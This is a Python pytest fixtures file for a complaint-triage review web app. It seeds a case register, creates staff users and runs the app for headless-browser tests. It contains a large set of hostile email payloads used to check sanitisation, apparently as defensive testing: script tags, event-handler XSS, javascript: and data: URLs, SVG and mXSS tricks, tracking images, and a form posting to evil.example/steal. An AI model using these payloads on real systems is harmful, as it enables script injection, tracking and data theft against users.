"""Fixtures for the review app: a register built by the real pipeline plus a few hand-made cases,
staff users, and the app served by uvicorn on a free loopback port in a thread."""

from __future__ import annotations

import os
import tempfile
import shutil
import socket
import threading
import time
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from tests.conftest import IN_CI, deliver, make_settings
from triage.db import unit_of_work
from triage.models import Case, Classification, Deadline, InboundMessage, Letter
from triage.users import create_user, issue_api_token

CHROMIUM = os.environ.get("TRIAGE_CHROMIUM", "/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
SECRET_ENV = "TRIAGE_TEST_WEB_SECRET"
PASSWORD = "correct horse battery staple"
# `make screenshots` points this at docs/screenshots; a plain test run leaves the repo untouched.
SCREENSHOTS = Path(os.environ.get("TRIAGE_SCREENSHOTS_DIR") or Path(tempfile.gettempdir()) / "triage-screenshots")
SCREENSHOTS.mkdir(parents=True, exist_ok=True)

COMPLAINT = (
    b"From: Margaret Ellis <m.ellis@example.org>\r\nTo: complaints@firm.example\r\n"
    b"Subject: Formal complaint about my account\r\nMessage-ID: <web-complaint-1@example.org>\r\n"
    b"Date: Mon, 16 Nov 2026 09:12:00 +0000\r\n\r\n"
    b"I wish to make a formal complaint. I have phoned your office five times in three weeks about the\r\n"
    b"wrong balance on my account and nobody has called me back. This is unacceptable and I expect a\r\n"
    b"written explanation and the balance corrected.\r\n\r\nMargaret Ellis\r\n"
)

# Every way we know for an email to run script or fetch remote content when it is displayed.
HOSTILE_HTML = """<html><head>
<script>window.__pwned = 'script'; alert('script');</script>
<style>body { background: url(http://evil.example/style-bg.png) } p { width: expression(alert('css')) }</style>
<link rel="stylesheet" href="http://evil.example/remote.css">
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<base href="http://evil.example/">
</head>
<body onload="window.__pwned='onload'; alert('onload')" background="http://evil.example/body-bg.png">
<p>I am very unhappy and I want to make a formal complaint about the fees you charged me.</p>
<img src="http://evil.example/track.png" onerror="window.__pwned='onerror'; alert('onerror')" width="1" height="1">
<img srcset="http://evil.example/srcset.png 1x" src="x" onerror="alert('srcset')">
<img src="//evil.example/protocol-relative.png">
<a href="javascript:window.__pwned='jsurl';alert('jsurl')" id="jslink">click here</a>
<a href="data:text/html,<script>alert('data')</script>">data link</a>
<div style="width: expression(alert('expr')); background-image: url(http://evil.example/css-bg.png)">styled</div>
<table background="http://evil.example/table-bg.png"><tr><td background="http://evil.example/td.png">cell</td></tr></table>
<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned='svg'; alert('svg')">
  <script>window.__pwned='svgscript'</script>
  <image href="http://evil.example/svg-image.png" />
  <foreignObject><iframe src="http://evil.example/svg-frame"></iframe></foreignObject>
</svg>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<iframe src="http://evil.example/frame" srcdoc="<script>parent.__pwned='frame'</script>"></iframe>
<object data="http://evil.example/object.swf"></object>
<embed src="http://evil.example/embed.swf">
<video poster="http://evil.example/poster.png" src="http://evil.example/video.mp4"></video>
<audio src="http://evil.example/audio.mp3" autoplay></audio>
<form action="http://evil.example/steal"><input name="q" autofocus onfocus="alert('focus')"></form>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
<p>Regards, Eve</p>
</body></html>"""


def hostile_message() -> bytes:
    html = HOSTILE_HTML.encode()
    return (
        b"From: =?utf-8?q?Eve_=3Cscript=3Ealert(1)=3C/script=3E?= <eve@example.org>\r\n"
        b"To: complaints@firm.example\r\nSubject: <script>window.__pwned='subject'</script> complaint about fees\r\n"
        b"Message-ID: <web-hostile-1@example.org>\r\nDate: Tue, 17 Nov 2026 10:00:00 +0000\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n"
        b"--mix\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n"
        b"--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        b"I am very unhappy and I want to make a formal complaint about the fees you charged me.\r\n"
        b"--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html + b"\r\n--alt--\r\n"
        b"--mix\r\nContent-Type: text/html; name=\"invoice.html\"\r\n"
        b"Content-Disposition: attachment; filename=\"invoice.html\"\r\n\r\n"
        b"<script>window.__pwned='attachment'</script><p>invoice</p>\r\n--mix--\r\n"
    )


@dataclass
class WebEnv:
    settings: Any
    app: Any
    factory: Any
    base_url: str = ""
    token: str = ""
    refs: dict[str, str] = field(default_factory=dict)
    held_letter_id: int = 0


def _add_case(session, reference: str, *, profile: str, needs_review: bool, due_in: timedelta | None, subject: str, kind: str = "complaint") -> Case:
    now = datetime.now(timezone.utc)
    case = Case(
        reference=reference,
        kind=kind,
        status="needs_review" if needs_review else "open",
        needs_review=needs_review,
        review_reasons=["the classifier is unsure"] if needs_review else [],
        profile=profile,
        complainant_address=f"{reference.lower()}@example.org",
        complainant_name="Test Person",
        subject=subject,
        received_at=now - timedelta(days=1),
        complaint=True,
        category="service_quality",
    )
    session.add(case)
    session.flush()
    message = InboundMessage(
        mailbox="test",
        source_key=reference,
        raw_sha256="0" * 64,
        raw_size=10,
        subject=subject,
        from_address=case.complainant_address,
        text=f"{subject}. I am unhappy with the delay and want this put right.",
        status="processed",
        case_id=case.id,
    )
    session.add(message)
    session.flush()
    session.add(
        Classification(
            message_id=message.id,
            case_id=case.id,
            model_version="test-model",
            labels={"complaint": True, "explicit": False, "personal_data": False, "breach": False, "rights": [], "about_other_firm": None,
                    "third_party": False, "auto_generated": False, "category": "service_quality", "needs_review": needs_review, "evidence": ["unhappy with the delay"]},
            scores={"complaint": 0.62, "explicit": 0.2, "personal_data": 0.05, "breach": 0.01},
            evidence=["unhappy with the delay"],
            complaint_score=0.62,
        )
    )
    if due_in is not None:
        session.add(Deadline(case_id=case.id, step="final_response_by", clock_kind="complaint", due_at=now + due_in, status="pending"))
    return case


def build_register(env: WebEnv, classifier) -> None:
    """Real mail through the real pipeline, then hand-made cases with known deadlines."""
    from triage.bootstrap import bootstrap

    settings = env.settings
    inbox = settings.path("mailbox", "path")
    deliver(inbox, "complaint", COMPLAINT, order=1)
    deliver(inbox, "hostile", hostile_message(), order=2)
    pipeline = bootstrap(settings, classifier=classifier)
    try:
        pipeline.service().run_once()
    finally:
        pipeline.close()
    with unit_of_work(env.factory) as session:
        for message in session.scalars(select(InboundMessage).where(InboundMessage.case_id.is_not(None))):
            case = session.get(Case, message.case_id)
            env.refs["hostile" if message.message_id and "hostile" in message.message_id else "complaint"] = case.reference
        # Queue ordering: needs-review first, then the nearest pending deadline, no deadline last.
        _add_case(session, "ORD-A", profile="ordertest", needs_review=False, due_in=timedelta(days=1), subject="A: open, due in a day")
        _add_case(session, "ORD-B", profile="ordertest", needs_review=True, due_in=timedelta(days=5), subject="B: review, due in 5 days")
        _add_case(session, "ORD-C", profile="ordertest", needs_review=False, due_in=timedelta(hours=2), subject="C: open, due in 2 hours")
        _add_case(session, "ORD-D", profile="ordertest", needs_review=True, due_in=timedelta(hours=1), subject="D: review, due in an hour")
        _add_case(session, "ORD-E", profile="ordertest", needs_review=False, due_in=None, subject="E: open, no deadline")
        _add_case(session, "ORD-F", profile="ordertest", needs_review=False, due_in=timedelta(hours=-3), subject="F: open, overdue")
        held_case = _add_case(session, "HELD-1", profile="lettertest", needs_review=False, due_in=timedelta(days=3), subject="Held letter case")
        letter = Letter(
            case_id=held_case.id,
            kind="acknowledgement",
            rule="rate_limit",
            to_address="held-1@example.org",
            subject="We have received your complaint HELD-1",
            body_text="Dear Test Person,\n\nWe have received your complaint.\n",
            body_html="<p>Dear Test Person,</p><p>We have received your complaint.</p>",
            message_id="<held-1@firm.example>",
            status="held",
        )
        session.add(letter)
        _add_case(session, "OUT-1", profile="outcometest", needs_review=False, due_in=timedelta(days=10), subject="Outcome case")
        _add_case(session, "LBL-1", profile="labeltest", needs_review=True, due_in=timedelta(days=10), subject="Label case")
        session.flush()
        env.held_letter_id = letter.id
        create_user(session, "tina", "team_leader", PASSWORD, actor="test")
        create_user(session, "harry", "handler", PASSWORD, actor="test")
        create_user(session, "anna", "analyst", PASSWORD, actor="test")
        create_user(session, "limit", "handler", PASSWORD, actor="test")
        env.token = issue_api_token(session, "tina", actor="test")


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture(scope="session")
def web_env(tmp_path_factory, shipped_classifier, uses_register):
    from triage.web.app import create_app
    import uvicorn

    tmp = tmp_path_factory.mktemp("web")
    os.environ[SECRET_ENV] = "test-secret-" + "x" * 40
    settings = make_settings(tmp, web={"secret_key_env": SECRET_ENV})
    app = create_app(settings)
    env = WebEnv(settings=settings, app=app, factory=app.state.web.factory)
    build_register(env, shipped_classifier)
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 15
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    assert server.started, "uvicorn did not start"
    env.base_url = f"http://127.0.0.1:{port}"
    yield env
    server.should_exit = True
    thread.join(timeout=10)
    app.state.engine.dispose()
    os.environ.pop(SECRET_ENV, None)


def _need_chromium() -> None:
    if not (Path(CHROMIUM).exists() or shutil.which("chromium")):
        reason = f"Chromium not found at {CHROMIUM} (install the chromium package; .ci/install-services.sh does)"
        if IN_CI:
            pytest.fail(reason + " under CI=true")
        pytest.skip(reason)
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        if IN_CI:
            pytest.fail("playwright is not installed under CI=true")
        pytest.skip("playwright is not installed (pip install playwright)")


@pytest.fixture(scope="session")
def browser():
    _need_chromium()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        instance = p.chromium.launch(executable_path=CHROMIUM if Path(CHROMIUM).exists() else shutil.which("chromium"), args=CHROMIUM_ARGS, headless=True)
        yield instance
        instance.close()


@pytest.fixture
def page(browser, web_env):
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    pg = context.new_page()
    pg.set_default_timeout(10_000)
    yield pg
    context.close()


def login(page, base_url: str, username: str = "tina", password: str = PASSWORD) -> None:
    page.goto(f"{base_url}/login")
    page.fill("input[name=username]", username)
    page.fill("input[name=password]", password)
    page.click("button[type=submit]")
    page.wait_for_load_state()
